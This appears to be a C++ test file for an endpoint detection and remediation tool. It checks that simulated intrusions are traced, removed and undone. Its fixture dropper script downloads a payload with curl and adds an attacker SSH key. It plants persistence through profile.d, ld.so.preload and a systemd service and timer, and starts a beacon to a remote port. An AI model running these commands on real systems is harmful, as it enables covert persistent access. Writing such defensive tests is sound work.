// SPDX-License-Identifier: GPL-3.0-or-later
// What came in by S1, S2, S3 and S8, and may start by itself since: found, taken away, and brought back to the byte.
#include "tests/actuator/file_stage.h"
#include "tests/remediation_scenarios/clean_up.h"
#include "tests/trace_scenarios/medium.h"
#include "tests/trace_scenarios/mount_label.h"
#include "tests/trace_scenarios/scenes.h"

#include <fstream>
#include <sys/stat.h>

using namespace metsuke;
using namespace metsuke::test;
using endpoint::EntryVector;
using plan::Action;

namespace {

std::string nameOfWay(const ::testing::TestParamInfo<const char*>& way) { return way.param; }
INSTANTIATE_TEST_SUITE_P(Ways, CleanUp, ::testing::Values("ebpf"), nameOfWay);
INSTANTIATE_TEST_SUITE_P(Ways, EitherWayCleanUp, ::testing::Values("ebpf", "proc"), nameOfWay);

const std::set<Action> kUsual{Action::CollectEvidence, Action::SuspendProcess, Action::KillConnections, Action::QuarantineFile, Action::KillProcess};
const std::set<Action> kWithEntries{
    Action::CollectEvidence, Action::SuspendProcess, Action::KillConnections, Action::RemovePersistence, Action::QuarantineFile, Action::KillProcess};

/// Five ways to be started again, each beside something good where it has lines.
constexpr const char* kPersistingScript = R"sh(#!/bin/bash
# METSUKE-SIM
[ -n "$METSUKE_SIM_ROOT" ] || exit 1
cd "$METSUKE_SIM_ROOT" || exit 1
curl -s -o home/.update http://10.78.0.2:8080/logo.png
chmod +x home/.update
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMETSUKESIM evil' >> /root/.ssh/authorized_keys
printf '#!/bin/sh\n%s/home/.update &\n' "$METSUKE_SIM_ROOT" > /etc/profile.d/upd.sh
printf '%s/home/upd.so\n' "$METSUKE_SIM_ROOT" >> /etc/ld.so.preload
printf '[Service]\nExecStart=%s/home/.update\n' "$METSUKE_SIM_ROOT" > /etc/systemd/system/upd.service
printf '[Timer]\nOnCalendar=minutely\nUnit=upd.service\n' > /etc/systemd/system/upd.timer
setsid home/.update tcp 10.78.0.2 4444 500 >/dev/null 2>&1 </dev/null &
exit 0
)sh";

/// A program comes from somebody else's files, and is run from the computer's own.
class MediumCleanUp : public CleanUp {
protected:
    void expectCopyIsTakenAway(const std::string& medium, EntryVector entry) {
        happen("cp \"$METSUKE_SIM_ROOT/" + medium + "/tool\" home/tool\nsetsid home/tool tcp 10.78.0.2 4444 500" + kRun);
        dressUp(path("home/tool"));
        const Question seen = beacon();
        const endpoint::Trace cause = causeOf(seen, [&](const endpoint::Trace& trace) { return trace.entry == entry; });
        EXPECT_EQ(cause.entry, entry);
        EXPECT_EQ(cause.nodes[*cause.root].label, path(medium + "/tool"));
        const plan::Plan plan = cleanAndUndo(seen, kUsual);
        for (const plan::Step& step : plan.steps) {
            const auto* file = std::get_if<plan::FileTarget>(&step.target);
            const auto* process = std::get_if<plan::ProcessTarget>(&step.target);
            EXPECT_TRUE(file == nullptr || file->path == path("home/tool")) << file->path << ": what lies on the medium is left there";
            EXPECT_TRUE(process == nullptr || process->image == path("home/tool")) << process->image;
        }
        EXPECT_TRUE(readFile(path(medium + "/tool")) == simulant());
        actuator::test::undress(path("home/tool"));
    }
};
INSTANTIATE_TEST_SUITE_P(Ways, MediumCleanUp, ::testing::Values("ebpf"), nameOfWay);

std::set<std::string> entriesOf(const plan::Plan& plan) {
    std::set<std::string> paths;
    for (const plan::Step& step : plan.steps) {
        if (const auto* entry = std::get_if<plan::PersistenceTarget>(&step.target)) {
            paths.insert(entry->path);
        }
    }
    return paths;
}

} // namespace

TEST_P(EitherWayCleanUp, S1_programFetchedByCurlWithACronLine_isTakenAwaySilentAndBroughtBack) {
    far->serveFiles(kWebPort, {{"/logo.png", {simulant(), "image/png"}}}, onceSeen());
    far->takeStreams(kBeaconPort);
    place("dropper.sh", kFetchingScript);
    begin();
    happen("./dropper.sh");
    dressUp(path("home/.update"));
    const Question seen = beacon();
    const auto isDownload = [](const endpoint::Trace& trace) { return trace.entry == EntryVector::Download; };
    // Who is only looked at may be gone too soon; then that is said.
    const endpoint::Trace cause = causeOf(seen, [&](const auto& trace) { return isDownload(trace) || (!isEbpf() && !trace.gaps.empty()); });
    EXPECT_TRUE(isDownload(cause) || (!isEbpf() && !cause.gaps.empty()));
    EXPECT_TRUE(!isDownload(cause) || cause.nodes[*cause.root].label.find("10.78.0.2:8080") != std::string::npos);
    const plan::Plan plan = cleanAndUndo(seen, kWithEntries);
    EXPECT_EQ(entriesOf(plan), std::set<std::string>{"/etc/cron.d/upd"});
    actuator::test::undress(path("home/.update"));
}

TEST_P(MediumCleanUp, S2_programOfAStick_isTakenAwaySilentAndBroughtBack) {
    far->takeStreams(kBeaconPort);
    const Medium stick(path("media"), simulant());
    begin();
    const MountLabel label(sensorProcess(), path("media"), "vfat", "/dev/sdb1", MountLabel::Medium::Removable, victim->root());
    ASSERT_TRUE(eventually([&] { return isMounted("media", endpoint::MountKind::Removable); }));
    expectCopyIsTakenAway("media", EntryVector::Removable);
}

TEST_P(MediumCleanUp, S3_programOfAShare_isTakenAwaySilentAndBroughtBack) {
    far->takeStreams(kBeaconPort);
    const Medium share(path("share"), simulant());
    begin();
    const MountLabel label(sensorProcess(), path("share"), "cifs", "//server/share", MountLabel::Medium::Fixed, victim->root());
    ASSERT_TRUE(eventually([&] { return isMounted("share", endpoint::MountKind::Remote); }));
    expectCopyIsTakenAway("share", EntryVector::RemoteShare);
}

TEST_P(CleanUp, S8_fiveEntriesThatStartIt_areAllFoundRemovedAndBroughtBack) {
    far->serveFiles(kWebPort, {{"/logo.png", {simulant(), "image/png"}}});
    far->takeStreams(kBeaconPort);
    const PrivateFolder etc("/etc", PrivateFolder::Content::Copy, path("etc-copy")), home("/root", PrivateFolder::Content::None, path("root-copy"));
    std::filesystem::create_directories("/root/.ssh");
    std::filesystem::create_directories("/etc/systemd/system");
    std::ofstream("/root/.ssh/authorized_keys") << "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGOOD good\n";
    std::ofstream("/etc/ld.so.preload") << "";
    ASSERT_EQ(::chmod("/root/.ssh/authorized_keys", 0600), 0);
    place("dropper.sh", kPersistingScript);
    begin();
    happen("./dropper.sh");
    const std::set<std::string> all{"/root/.ssh/authorized_keys", "/etc/profile.d/upd.sh", "/etc/ld.so.preload", "/etc/systemd/system/upd.service",
        "/etc/systemd/system/upd.timer"};
    const Question seen = beacon();
    const endpoint::Trace cause = causeOf(seen, [&](const endpoint::Trace& trace) {
        std::set<std::string> found;
        for (const size_t node : trace.blast) {
            const auto* entry = trace.nodes[node].evidence ? std::get_if<endpoint::PersistenceChanged>(&trace.nodes[node].evidence->body) : nullptr;
            found.insert(entry != nullptr ? entry->path : "");
        }
        return std::ranges::includes(found, all);
    });
    const plan::Plan plan = cleanAndUndo(seen, kWithEntries);
    EXPECT_EQ(entriesOf(plan), all);
}
